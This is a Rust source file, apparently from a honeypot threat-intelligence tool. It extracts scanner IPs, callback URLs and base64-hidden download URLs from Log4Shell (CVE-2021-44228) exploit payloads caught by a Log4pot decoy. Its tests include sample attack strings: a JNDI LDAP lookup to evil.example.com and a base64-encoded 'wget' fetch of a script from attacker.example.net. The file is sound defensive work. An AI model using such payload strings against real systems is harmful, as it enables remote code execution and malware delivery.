//! Log4pot extraction strategy
//!
//! Handles the exploit decoy for CVE-2021-44228. Exploit hits carry a
//! deobfuscated JNDI payload from which a callback URL can be recovered,
//! and often a second URL hidden inside a base64-encoded command. The
//! scanner IP arrives on a separate "request" hit sharing the same
//! correlation id.

use async_trait::async_trait;
use base64::Engine;
use base64::engine::general_purpose::STANDARD as BASE64;
use once_cell::sync::Lazy;
use regex::Regex;
use url::Url;

use crate::extraction::processor::IocProcessor;
use crate::extraction::strategies::{ExtractionStrategy, ExtractionSummary, PipelineContext};
use crate::logsource::HitEvent;
use crate::models::ioc_utils::ioc_kind_of;
use crate::models::{AttackType, IocCandidate};

// Schemeless URL as it appears in JNDI payloads ("//host:port/path").
static CVE_URL: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"//[a-zA-Z\d_-]{1,200}(?:\.[a-zA-Z\d_-]{1,200})+(?::\d{2,6})?(?:/[a-zA-Z\d_=-]{1,200})*(?:\.\w+)?",
    )
    .expect("invalid CVE URL regex")
});

// Base64 command blob embedded in LDAP-style payloads.
static CVE_BASE64_COMMAND: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"/Command/Base64/((?:[a-zA-Z+/\d]+)(?:={0,3}))\}").expect("invalid base64 regex")
});

// URL inside a decoded command, scheme optional.
static BARE_URL: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"[a-zA-Z\d_-]{1,200}(?:\.[a-zA-Z\d_-]{1,200})+(?::\d{2,6})?(?:/[a-zA-Z\d_=-]{1,200})*(?:\.\w+)?",
    )
    .expect("invalid URL regex")
});

/// What one exploit hit yielded.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct ExploitArtifacts {
    pub url: Option<String>,
    pub hostname: Option<String>,
    pub hidden_url: Option<String>,
    pub hidden_hostname: Option<String>,
}

/// Pull the callback URL and any base64-hidden URL out of a deobfuscated
/// exploit payload.
pub fn parse_exploit_payload(payload: &str) -> ExploitArtifacts {
    let mut artifacts = ExploitArtifacts::default();

    if let Some(matched) = CVE_URL.find(payload) {
        // the payload drops the protocol; any scheme works for host parsing
        let adjusted = format!("tcp:{}", matched.as_str());
        let url = matched.as_str()[2..].to_string();
        tracing::info!(url = %url, "found URL in exploit payload");
        if let Some(hostname) = Url::parse(&adjusted)
            .ok()
            .and_then(|u| u.host_str().map(String::from))
        {
            tracing::info!(hostname = %hostname, "extracted payload hostname");
            artifacts.url = Some(url);
            artifacts.hostname = Some(hostname);
        }
    }

    if let Some(captures) = CVE_BASE64_COMMAND.captures(payload) {
        let encoded = &captures[1];
        tracing::info!(encoded, "found base64 encoded command in payload");
        match BASE64
            .decode(encoded)
            .map_err(anyhow::Error::from)
            .and_then(|bytes| String::from_utf8(bytes).map_err(anyhow::Error::from))
        {
            Ok(decoded) => {
                if let Some(matched) = BARE_URL.find(&decoded) {
                    let mut hidden_url = matched.as_str().to_string();
                    if !hidden_url.contains("://") {
                        hidden_url = format!("tcp://{hidden_url}");
                    }
                    tracing::info!(url = %hidden_url, "found hidden URL in decoded command");
                    if let Some(hostname) = Url::parse(&hidden_url)
                        .ok()
                        .and_then(|u| u.host_str().map(String::from))
                    {
                        artifacts.hidden_url = Some(hidden_url);
                        artifacts.hidden_hostname = Some(hostname);
                    }
                }
            }
            Err(e) => tracing::warn!(error = %e, "failed to decode base64 command"),
        }
    }

    artifacts
}

/// Find the scanner IP for an exploit via the first "request" hit sharing
/// its correlation id.
pub fn correlate_scanner_ip<'a>(
    correlation_id: Option<&str>,
    hits: &'a [HitEvent],
) -> Option<&'a str> {
    let correlation_id = correlation_id?;
    let matched = hits.iter().find(|hit| {
        hit.reason.as_deref() == Some("request")
            && hit.correlation_id.as_deref() == Some(correlation_id)
    });
    match matched {
        Some(hit) => hit.src_ip.as_deref(),
        None => {
            tracing::warn!(correlation_id, "scanner IP was not extracted");
            None
        }
    }
}

pub struct Log4potStrategy {
    honeypot: String,
}

impl Log4potStrategy {
    pub fn new(honeypot: impl Into<String>) -> Self {
        Self {
            honeypot: honeypot.into(),
        }
    }
}

#[async_trait]
impl ExtractionStrategy for Log4potStrategy {
    fn strategy_name(&self) -> &'static str {
        "log4pot"
    }

    fn honeypot(&self) -> &str {
        &self.honeypot
    }

    async fn extract_from_hits(
        &mut self,
        hits: &[HitEvent],
        ctx: &mut PipelineContext,
    ) -> anyhow::Result<ExtractionSummary> {
        let mut summary = ExtractionSummary::default();
        let mut added_scanners = 0;
        let mut added_payloads = 0;
        let mut added_hidden_payloads = 0;

        let exploit_hits: Vec<&HitEvent> = hits
            .iter()
            .filter(|hit| hit.reason.as_deref() == Some("exploit"))
            .collect();

        let mut processor = IocProcessor::new(&mut ctx.iocs, &ctx.sensors, &ctx.whatsmyip);

        for hit in exploit_hits {
            let seen = hit.timestamp.unwrap_or_else(chrono::Utc::now);
            let scanner_ip =
                correlate_scanner_ip(hit.correlation_id.as_deref(), hits).map(String::from);
            let artifacts = parse_exploit_payload(hit.deobfuscated_payload.as_deref().unwrap_or(""));

            if let Some(ip) = &scanner_ip {
                let candidate = IocCandidate::new(ip.clone(), ioc_kind_of(ip), seen);
                if let Some(record) = processor
                    .add_ioc(candidate, AttackType::Scanner, Some(&self.honeypot))
                    .await?
                {
                    summary.ioc_names.push(record.name);
                    added_scanners += 1;
                }
            }

            if let Some(hostname) = &artifacts.hostname {
                let mut candidate =
                    IocCandidate::new(hostname.clone(), ioc_kind_of(hostname), seen);
                if let Some(url) = &artifacts.url {
                    candidate = candidate.with_related_url(url.clone());
                }
                if let Some(record) = processor
                    .add_ioc(candidate, AttackType::PayloadRequest, Some(&self.honeypot))
                    .await?
                {
                    summary.ioc_names.push(record.name);
                    added_payloads += 1;
                }
            }

            if let Some(hostname) = &artifacts.hidden_hostname {
                let mut candidate =
                    IocCandidate::new(hostname.clone(), ioc_kind_of(hostname), seen);
                if let Some(url) = &artifacts.hidden_url {
                    candidate = candidate.with_related_url(url.clone());
                }
                if let Some(record) = processor
                    .add_ioc(candidate, AttackType::PayloadRequest, Some(&self.honeypot))
                    .await?
                {
                    summary.ioc_names.push(record.name);
                    added_hidden_payloads += 1;
                }
            }

            // once all three are persisted, link every pair as related
            let scanner = scanner_ip.as_deref();
            let hostname = artifacts.hostname.as_deref();
            let hidden = artifacts.hidden_hostname.as_deref();
            processor.link_related(scanner, hostname).await?;
            processor.link_related(scanner, hidden).await?;
            processor.link_related(hostname, hidden).await?;
        }

        tracing::info!(
            honeypot = %self.honeypot,
            added_scanners,
            added_payloads,
            added_hidden_payloads,
            "log4pot extraction finished"
        );
        Ok(summary)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_callback_url_from_payload() {
        let artifacts = parse_exploit_payload("jndi:ldap://evil.example.com:1389/Exploit");
        assert_eq!(artifacts.hostname.as_deref(), Some("evil.example.com"));
        assert_eq!(
            artifacts.url.as_deref(),
            Some("evil.example.com:1389/Exploit")
        );
    }

    #[test]
    fn parses_hidden_url_from_base64_command() {
        // "wget attacker.example.net/x.sh" base64-encoded
        let encoded = BASE64.encode("wget attacker.example.net/x.sh");
        let payload = format!("ldap://host.example.com:1389/Basic/Command/Base64/{encoded}}}");
        let artifacts = parse_exploit_payload(&payload);
        assert_eq!(
            artifacts.hidden_hostname.as_deref(),
            Some("attacker.example.net")
        );
        assert_eq!(
            artifacts.hidden_url.as_deref(),
            Some("tcp://attacker.example.net/x.sh")
        );
    }

    #[test]
    fn invalid_base64_yields_no_hidden_url() {
        let payload = "ldap://h.example.com/Basic/Command/Base64/a}";
        let artifacts = parse_exploit_payload(payload);
        // single-char base64 decodes to nothing useful; no panic, no URL
        assert!(artifacts.hidden_hostname.is_none());
    }

    #[test]
    fn payload_without_url_yields_nothing() {
        let artifacts = parse_exploit_payload("nothing to see here");
        assert_eq!(artifacts, ExploitArtifacts::default());
    }

    fn request_hit(correlation_id: &str, src_ip: &str) -> HitEvent {
        HitEvent {
            src_ip: Some(src_ip.to_string()),
            reason: Some("request".to_string()),
            correlation_id: Some(correlation_id.to_string()),
            ..Default::default()
        }
    }

    #[test]
    fn scanner_ip_correlated_by_id() {
        let hits = vec![
            request_hit("cid-1", "1.2.3.4"),
            request_hit("cid-2", "5.6.7.8"),
        ];
        assert_eq!(correlate_scanner_ip(Some("cid-2"), &hits), Some("5.6.7.8"));
        assert_eq!(correlate_scanner_ip(Some("cid-9"), &hits), None);
        assert_eq!(correlate_scanner_ip(None, &hits), None);
    }

    #[test]
    fn first_matching_request_wins() {
        let hits = vec![request_hit("cid-1", "1.2.3.4"), request_hit("cid-1", "5.6.7.8")];
        assert_eq!(correlate_scanner_ip(Some("cid-1"), &hits), Some("1.2.3.4"));
    }
}
